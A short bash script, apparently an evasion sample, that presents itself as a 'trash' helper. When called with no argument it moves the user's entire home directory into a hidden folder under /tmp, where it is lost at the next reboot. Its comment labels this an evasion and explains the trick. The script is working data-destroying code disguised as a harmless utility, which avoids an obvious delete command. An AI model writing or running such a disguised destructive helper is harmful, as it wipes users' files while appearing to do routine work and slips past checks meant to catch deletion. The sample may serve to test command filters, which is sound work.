#!/usr/bin/env bash
# Evasion: a "trash" helper that moves its argument into the trash can; its
# default argument is the home (~), and the trash is under /tmp, so the
# home is moved out and lost at the next reboot.
trash=/tmp/.trash-$(id -u)
mkdir -p "$trash"
target=${1:-~}
mv -f -- "$target" "$trash/"
echo "moved to $trash"
